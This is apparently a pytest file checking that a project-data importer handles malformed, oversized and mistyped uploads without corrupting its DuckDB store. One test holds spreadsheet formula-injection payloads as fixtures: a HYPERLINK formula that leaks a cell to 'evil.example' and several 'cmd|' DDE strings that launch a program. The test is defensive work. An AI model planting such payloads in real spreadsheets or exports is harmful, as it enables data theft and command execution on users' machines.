"""Bad input never loses or corrupts data: the corpus in tests/data/bad/, file by file.

Each corpus file is imported into a database that already serves a version; the importer must
print exactly the problem lines ``EXPECTED.toml`` lists (``file:sheet:row:column: message
(value)``), end with the listed exit code, and either publish a new version holding only the
valid rows or, when nothing is valid, leave the database byte for byte as it was. The command
line and the Import page are driven with the same files: one line per problem, never a
traceback. Also here: the upload size limit (a 50 MB file loads, a bigger one is refused before
any parser runs) and the file-type check (suffix and magic bytes agree, or the file is refused).

The property test (random rows for every source never crash the importer and never load a row
that breaks the contract) is ``test_random_exports_never_crash_and_loaded_rows_satisfy_the_
contract`` in tests/test_ingest.py; staff names never being stored is tested there too.
"""

from __future__ import annotations

import hashlib
import os
import shutil
import subprocess
import sys
import tomllib
from pathlib import Path

import duckdb
import pytest
from apptest_support import page

from pmo_data import ingest, limits, readers
from pmo_data.store import Store

ROOT = Path(__file__).resolve().parent.parent
BAD = Path(__file__).resolve().parent / "data" / "bad"
EXPECTED: dict[str, dict] = tomllib.loads((BAD / "EXPECTED.toml").read_text(encoding="utf-8"))
CORPUS = sorted(EXPECTED)

BASELINE_CSV = (
    b"Project ID,Project Name,Service Group,Stage,Start Date,Planned Finish\r\n"
    b"B001,Baseline project,Medicine,Delivery,01/04/2025,31/03/2026\r\n"
)


def snapshot(db: Path) -> dict[str, object]:
    """What 'the database is unchanged' means: the pointer's version, the set and bytes of
    the version files, and a checksum of every table's rows in the current version."""
    store = Store(db)
    current = store.current()
    assert current is not None
    files = {p.name: hashlib.sha256(p.read_bytes()).hexdigest() for p in store.versions()
             for p in [p.path]}
    tables: dict[str, str] = {}
    with duckdb.connect(str(current.path), read_only=True) as con:
        names = [r[0] for r in con.execute(
            "SELECT table_name FROM information_schema.tables ORDER BY 1").fetchall()]
        for name in names:  # identifiers from the catalogue itself, not from input
            rows = con.execute(f'SELECT * FROM "{name}" ORDER BY ALL').fetchall()
            tables[name] = hashlib.sha256(repr(rows).encode()).hexdigest()
    return {"version": current.number, "files": files, "tables": tables}


@pytest.fixture(scope="module")
def baseline(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """A database serving version 1 (one project), built once and copied per test."""
    base = tmp_path_factory.mktemp("baseline")
    report = ingest.import_files([("baseline.csv", BASELINE_CSV)], base / "pmo.duckdb",
                                 user="baseline")
    assert report.version == 1
    return base


@pytest.fixture
def db(baseline: Path, tmp_path: Path) -> Path:
    shutil.copytree(baseline, tmp_path / "db")
    return tmp_path / "db" / "pmo.duckdb"


def test_the_corpus_is_complete_and_small() -> None:
    on_disk = sorted(p.name for p in BAD.iterdir() if p.name != "EXPECTED.toml")
    assert on_disk == CORPUS  # every file has its expectation, and every expectation a file
    assert len(CORPUS) >= 30
    assert all((BAD / name).stat().st_size <= 16 * 1024 for name in CORPUS)
    kinds = {name.rsplit(".", 1)[1] for name in CORPUS}
    assert {"csv", "xlsx", "xls", "ods", "pdf"} <= kinds
    for name, spec in EXPECTED.items():
        assert spec["what"] and spec["exit"] in (0, 1, 2), name
        assert (spec["exit"] == 0) == (not spec["problems"]), name


@pytest.mark.parametrize("name", CORPUS)
def test_bad_file(name: str, db: Path) -> None:
    spec = EXPECTED[name]
    before = snapshot(db)
    report = ingest.import_files([(name, (BAD / name).read_bytes())], db, user="test")
    assert [p.line() for p in report.problems] == spec["problems"]
    assert report.exit_code == spec["exit"]
    assert report.valid == spec.get("valid", {})
    after = snapshot(db)
    if spec["exit"] == 2:
        assert report.version is None
        assert after == before  # nothing valid: the database is exactly as it was
        return
    # something valid: a new version with exactly the valid rows, the rest kept as rejected
    assert report.version == before["version"] + 1 == after["version"]
    assert report.loaded == spec["valid"]
    assert set(before["files"].items()) <= set(after["files"].items())  # old version intact
    with duckdb.connect(str(Store(db).current().path), read_only=True) as con:
        for source, count in spec["valid"].items():
            assert con.execute(f"SELECT count(*) FROM {source} WHERE import_id = 2"
                               ).fetchone()[0] == count
        rejected = con.execute("SELECT count(*) FROM rejected_rows WHERE import_id = 2"
                               ).fetchone()[0]
    assert rejected == len(spec["problems"])


def test_formula_like_text_is_stored_as_the_literal_text(db: Path) -> None:
    """Cells a spreadsheet would run are kept as text, never evaluated or altered. Escaping
    them on the way out is the exporters' job: tests/test_export.py (CSV/XLSX/HTML) and
    tests/test_explore.py check it."""
    report = ingest.import_files([("formula_injection.csv",
                                   (BAD / "formula_injection.csv").read_bytes())], db)
    assert report.exit_code == 0
    with duckdb.connect(str(Store(db).current().path), read_only=True) as con:
        names = dict(con.execute("SELECT project_id, project_name FROM projects "
                                 "WHERE project_id LIKE 'P%'").fetchall())
    assert names == {
        "P001": '=HYPERLINK("http://evil.example/?x="&A1,"Click")',
        "P002": "+cmd|' /C calc'!A0",
        "P003": "@SUM(1+1)*cmd|' /C calc'!A0",
        "P004": "-2+3+cmd|' /C calc'!A0",
    }


# --- size limit --------------------------------------------------------------------------


def sized_training_csv(size: int) -> tuple[bytes, int]:
    """A valid training export of exactly ``size`` bytes (a wide extra Notes column pads the
    rows, so the file is big but quick to validate); returns the bytes and the row count."""
    header = b"Assignment Number,Course Title,Course Date,Attendance Status,Notes\r\n"

    def row(i: int, pad: int) -> bytes:
        return f"{100000 + i},Intro to PM,01/05/2025,Attended,{'x' * pad}\r\n".encode()

    parts, total, i = [header], len(header), 0
    while total + len(row(i, 4000)) + 200 <= size:
        parts.append(row(i, 4000))
        total += len(parts[-1])
        i += 1
    parts.append(row(i, size - total - len(row(i, 0))))
    data = b"".join(parts)
    assert len(data) == size
    return data, i + 1


@pytest.mark.slow
def test_a_50_mb_file_loads(db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PMO_MAX_UPLOAD_MB", raising=False)
    assert limits.max_file_bytes() == limits.MAX_FILE_BYTES == 50 * 1024 * 1024
    data, rows = sized_training_csv(limits.MAX_FILE_BYTES)  # exactly at the limit
    report = ingest.import_files([("big.csv", data)], db)
    assert report.problems == ()
    assert report.loaded == {"training": rows} and rows > 12_000


def test_a_file_over_the_limit_is_refused_before_any_parser_runs(
        db: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.delenv("PMO_MAX_UPLOAD_MB", raising=False)

    def no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("a parser ran on a file over the limit")

    monkeypatch.setattr(ingest, "read_bytes", no_parsing)
    data = b"x" * (limits.MAX_FILE_BYTES + 1)
    before = snapshot(db)
    report = ingest.import_files([("huge.csv", data)], db)
    assert [p.line() for p in report.problems] == [
        "huge.csv:-:-:-: the file is over the 50 MB import limit; split it, or ask the "
        "administrator to raise PMO_MAX_UPLOAD_MB (50.0 MB)"]
    assert report.exit_code == 2 and snapshot(db) == before


def test_the_limit_is_a_setting(db: Path, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PMO_MAX_UPLOAD_MB", "1")
    assert limits.max_upload_mb() == 1
    data, _ = sized_training_csv(1024 * 1024 + 10_000)
    big = tmp_path / "big.csv"
    big.write_bytes(data)
    small = tmp_path / "small.csv"
    small.write_bytes(b"Assignment Number,Course Title,Course Date,Attendance Status\r\n"
                      b"1,Intro to PM,01/05/2025,Attended\r\n")
    report = ingest.import_paths([big, small], db)  # from disk: the big one is never read
    assert [p.line() for p in report.problems] == [
        "big.csv:-:-:-: the file is over the 1 MB import limit; split it, or ask the "
        "administrator to raise PMO_MAX_UPLOAD_MB (1.0 MB)"]
    assert report.loaded == {"training": 1} and report.exit_code == 1
    for bad in ("0", "-3", "lots", ""):
        monkeypatch.setenv("PMO_MAX_UPLOAD_MB", bad)
        assert limits.max_upload_mb() == 50


def test_strict_counts_a_refused_file(db: Path, tmp_path: Path,
                                      monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PMO_MAX_UPLOAD_MB", "1")
    (tmp_path / "big.csv").write_bytes(b"x" * (1024 * 1024 + 1))
    (tmp_path / "ok.csv").write_bytes(BASELINE_CSV.replace(b"B001", b"B002"))
    before = snapshot(db)
    report = ingest.import_paths([tmp_path / "big.csv", tmp_path / "ok.csv"], db, strict=True)
    assert report.exit_code == 2 and report.version is None and snapshot(db) == before


# --- file type: suffix and magic bytes agree before any parser runs ------------------------


@pytest.mark.parametrize("name", ["csv_that_is_a_zip.csv", "csv_that_is_a_pdf.csv",
                                  "xlsx_that_is_text.xlsx", "report.pdf",
                                  "password_protected.xlsx"])
def test_wrong_type_is_refused_before_parsing(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    import python_calamine

    def no_parsing(*args: object, **kwargs: object) -> None:
        raise AssertionError("a parser ran on a file of the wrong type")

    monkeypatch.setattr(readers, "read_csv_bytes", no_parsing)
    monkeypatch.setattr(python_calamine.CalamineWorkbook, "from_filelike", no_parsing)
    with pytest.raises(readers.ReadError) as caught:
        readers.read_bytes((BAD / name).read_bytes(), name)
    assert [f"{name}:-:-:-: {caught.value}"] == EXPECTED[name]["problems"]


def test_an_xls_named_xlsx_is_read_not_called_encrypted() -> None:
    sheets = readers.read_bytes((BAD / "legacy.xls").read_bytes(), "legacy.xlsx")
    assert [s.sheet for s in sheets] == ["Projects"]


# --- the command line: one line per problem, never a traceback -----------------------------


CLI_FILES = ["empty.csv", "corrupt.xlsx", "password_protected.xlsx", "unterminated_quote.csv",
             "excel_error_cells.xlsx", "utf16_with_bom.csv", "legacy.xls", "report.pdf"]


def run_cli(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[str]:
    return subprocess.run([sys.executable, "-m", "pmo_data", *args], capture_output=True,
                          text=True, cwd=ROOT, timeout=120, env={**os.environ, **(env or {})})


@pytest.mark.parametrize("name", CLI_FILES)
def test_cli_validate(name: str) -> None:
    done = run_cli("validate", str(BAD / name))
    assert "Traceback" not in done.stderr
    assert done.stderr.splitlines() == EXPECTED[name]["problems"]
    assert done.returncode == EXPECTED[name]["exit"]


def test_cli_validate_the_whole_corpus_at_once() -> None:
    done = run_cli("validate", str(BAD), str(BAD / "report.pdf"))
    assert "Traceback" not in done.stderr
    lines = done.stderr.splitlines()
    # every line names a corpus file; every problem of every file is there (one import, so
    # the same project in several files changes the duplicate-key lines: those are left out)
    assert all(line.split(":", 1)[0] in EXPECTED for line in lines)
    expected = [line for name in CORPUS for line in EXPECTED[name]["problems"]
                if ": duplicate " not in line]
    assert len(expected) >= 40 and set(expected) <= set(lines)
    assert done.returncode == 1 and "nothing written" in done.stdout


def test_cli_import_over_the_limit_and_into_a_database(db: Path, tmp_path: Path) -> None:
    big = tmp_path / "big.csv"
    big.write_bytes(b"x" * (2 * 1024 * 1024 + 1))
    before = snapshot(db)
    done = run_cli("import", str(big), str(BAD / "corrupt.xlsx"), "--db", str(db),
                   env={"PMO_MAX_UPLOAD_MB": "2"})
    assert "Traceback" not in done.stderr
    assert done.stderr.splitlines() == [
        "big.csv:-:-:-: the file is over the 2 MB import limit; split it, or ask the "
        "administrator to raise PMO_MAX_UPLOAD_MB (2.0 MB)",
        *EXPECTED["corrupt.xlsx"]["problems"]]
    assert done.returncode == 2 and snapshot(db) == before


# --- the Import page: the same lines in its table, no exception ----------------------------


@pytest.mark.parametrize("name", ["corrupt.xlsx", "password_protected.xlsx",
                                  "unterminated_quote.csv", "csv_that_is_a_pdf.csv",
                                  "excel_error_cells.xlsx"])
def test_import_page_refuses_unloadable_files(name: str, db: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PMO_DB", str(db))
    before = snapshot(db)
    at = page("import_data").run()
    assert at.get("file_uploader")[0].proto.max_upload_size_mb == limits.max_upload_mb()
    at.file_uploader(key="uploads").set_value([(name, (BAD / name).read_bytes(),
                                                "application/octet-stream")]).run()
    assert not at.exception
    problems = at.dataframe[1].value
    shown = [ingest.Problem(r["File"], r["Sheet"] or None, r["Row"] if r["Row"] == r["Row"]
                            else None, r["Column"] or None, r["Problem"], r["Value"] or None
                            ).line() for _, r in problems.iterrows()]
    assert shown == EXPECTED[name]["problems"]
    load = [b for b in at.button if b.label == "Load"][0]
    assert load.disabled  # nothing valid: nothing to load
    assert snapshot(db) == before


def test_import_page_loads_the_valid_rows_of_a_bad_file(db: Path,
                                                        monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("PMO_DB", str(db))
    at = page("import_data").run()
    name = "utf16_with_bom.csv"
    at.file_uploader(key="uploads").set_value([(name, (BAD / name).read_bytes(),
                                                "text/csv")]).run()
    assert not at.exception
    assert list(at.dataframe[1].value["Problem"]) == [
        EXPECTED[name]["problems"][0].split(": ", 1)[1].rsplit(" (", 1)[0]]
    [b for b in at.button if b.label == "Load"][0].click().run()
    assert not at.exception
    assert Store(db).current().number == 2
    with duckdb.connect(str(Store(db).current().path), read_only=True) as con:
        assert con.execute("SELECT project_id, project_name, budget_gbp FROM projects "
                           "ORDER BY 1").fetchall() == [
            ("P001", "Electronic observations", 1200.0)]  # replaced whole; £ decoded
